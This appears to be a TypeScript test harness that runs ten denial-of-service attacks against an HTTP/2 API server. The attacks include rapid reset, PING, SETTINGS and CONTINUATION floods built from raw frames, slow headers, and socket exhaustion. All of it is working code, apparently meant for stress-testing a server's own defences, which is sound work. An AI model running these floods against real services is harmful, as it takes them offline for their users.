import { type ClientHttp2Session, connect as connectHttp2, type ClientHttp2Stream, constants } from "node:http2";
import { connect as connectTcp } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { type Attack, type AttackTarget, keepBusy, largeList } from "./attack.ts";

const mebibyte = 2 ** 20;

/**
 * Attacks by connections alone; the attacker has no credentials unless the attack provides them.
 */
export const connectionAttacks: readonly Attack[] = [
  {
    id: "streams",
    what: "1 HTTP/2 connection, 200 streams, 2.9 MB of a body on each",
    run: (target, signal) => keepBusy(1, () => unfinishedBodies(target, signal), signal),
  },
  {
    id: "silent-sockets",
    what: "2,000 sockets that say nothing, a server with 1,024 descriptors",
    openFilesMax: 1024,
    run: (target, signal) => keepBusy(2_000, () => silentSocket(target, signal), signal),
  },
  {
    id: "slow-headers",
    what: "500 connections, a byte of a header each second",
    run: (target, signal) => keepBusy(500, () => slowHeaders(target, signal), signal),
  },
  {
    id: "handshakes",
    what: "32 connections that are closed after their handshake, and opened anew 50 ms later",
    run: (target, signal) => keepBusy(32, () => openTls(target).then((socket) => void socket.destroy()), signal),
  },
  {
    id: "rapid-reset",
    what: "8 HTTP/2 connections, requests that are reset at once",
    run: (target, signal) =>
      keepBusy(8, () => flood(target, signal, (session) => reset(session.request({ ":path": "/livez" }))), signal),
  },
  {
    id: "ping",
    what: "8 HTTP/2 connections, PING without end",
    run: (target, signal) => keepBusy(8, () => flood(target, signal, (session) => session.ping(() => {})), signal),
  },
  {
    id: "settings",
    what: "8 HTTP/2 connections, SETTINGS without end",
    run: (target, signal) =>
      keepBusy(8, () => flood(target, signal, (session) => session.settings({ enablePush: false })), signal),
  },
  {
    id: "continuation",
    what: "8 HTTP/2 connections, one header without end on each",
    run: (target, signal) => keepBusy(8, () => endlessHeader(target, signal), signal),
  },
  {
    id: "unread-upgrades",
    what: "20 lists of 30 MB with Upgrade, never read, by the administrator",
    run: (target, signal) => keepBusy(20, () => unreadList(target, signal, "Upgrade"), signal),
  },
  {
    id: "unread-lists",
    what: "20 lists of 30 MB, never read, by the administrator",
    run: (target, signal) => keepBusy(20, () => unreadList(target, signal, "keep-alive"), signal),
  },
];

function over(
  socket: { once(event: "close" | "error", listener: () => void): unknown; destroy(): unknown },
  signal: AbortSignal,
) {
  return new Promise<void>((resolve) => {
    const end = () => {
      signal.removeEventListener("abort", end);
      socket.destroy();
      resolve();
    };
    socket.once("close", end);
    socket.once("error", end);
    signal.addEventListener("abort", end);
    if (signal.aborted) end();
  });
}

function openSession({ host, port, ca }: AttackTarget): ClientHttp2Session {
  const session = connectHttp2(`https://${host}:${port}`, { ca, settings: { enablePush: false } });
  session.on("error", () => {});
  return session;
}

function unfinishedBodies(target: AttackTarget, signal: AbortSignal): Promise<void> {
  const session = openSession(target);
  const body = Buffer.alloc(2.9 * mebibyte, 0x20);
  for (let i = 0; i < 200; i++) {
    const stream = session.request({
      ":method": "POST",
      ":path": "/api/v1/namespaces/default/configmaps",
      "content-type": "application/json",
    });
    stream.on("error", () => {});
    stream.write(body);
  }
  return over(session, signal);
}

function silentSocket({ host, port }: AttackTarget, signal: AbortSignal): Promise<void> {
  return over(connectTcp(port, host).resume(), signal);
}

function openTls({ host, port, ca }: AttackTarget, options: object = {}): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const socket = connectTls({ host, port, ca, ...options }, () => resolve(socket));
    socket.once("error", reject);
    socket.once("close", () => reject(new Error("the server closed the connection")));
  });
}

async function slowHeaders(target: AttackTarget, signal: AbortSignal): Promise<void> {
  const socket = await openTls(target);
  socket.write("GET /livez HTTP/1.1\r\nhost: a\r\nx-slow: ");
  const timer = setInterval(() => socket.write("x"), 1_000);
  await over(socket.resume(), signal);
  clearInterval(timer);
}

function reset(stream: ClientHttp2Stream): void {
  stream.on("error", () => {});
  stream.close(constants.NGHTTP2_CANCEL);
}

/** A thousand frames at a time, as fast as they are accepted. */
async function flood(
  target: AttackTarget,
  signal: AbortSignal,
  frame: (session: ClientHttp2Session) => void,
): Promise<void> {
  const session = openSession(target);
  const ended = over(session, signal);
  await new Promise((resolve) => session.once("connect", resolve).once("close", resolve));
  while (!session.destroyed && !session.closed && !signal.aborted) {
    try {
      for (let i = 0; i < 50; i++) frame(session);
    } catch {
      // The client's own limits bound the number of waiting requests.
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  session.destroy();
  await ended;
}

/** HEADERS without END_HEADERS, and CONTINUATION after CONTINUATION (RFC 9113, 6.10). */
async function endlessHeader(target: AttackTarget, signal: AbortSignal): Promise<void> {
  const socket = await openTls(target, { ALPNProtocols: ["h2"] });
  const ended = over(socket.resume(), signal);
  const [settings, headers, continuation] = [0x4, 0x1, 0x9];
  // A literal header of 1,000 bytes that is not added to the table.
  const field = Buffer.concat([Buffer.from([0x00, 0x01, 0x78, 0x7f, 0xe9, 0x06]), Buffer.alloc(1_000, 0x61)]);
  socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
  socket.write(frameOf(settings, 0, Buffer.alloc(0)));
  socket.write(frameOf(headers, 1, field));
  const piece = Buffer.concat(Array.from({ length: 16 }, () => frameOf(continuation, 1, field)));
  while (!socket.destroyed && !signal.aborted) {
    if (!socket.write(piece)) await Promise.race([ended, new Promise((resolve) => socket.once("drain", resolve))]);
  }
  await ended;
}

function frameOf(type: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.byteLength, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

async function unreadList(
  target: AttackTarget,
  signal: AbortSignal,
  connection: "Upgrade" | "keep-alive",
): Promise<void> {
  const { cert, key } = target.admin;
  const socket = await openTls(target, { cert, key });
  socket.pause();
  const upgrade = connection === "Upgrade" ? "upgrade: websocket\r\n" : "";
  socket.write(`GET ${largeList} HTTP/1.1\r\nhost: a\r\nconnection: ${connection}\r\n${upgrade}\r\n`);
  await over(socket, signal);
}
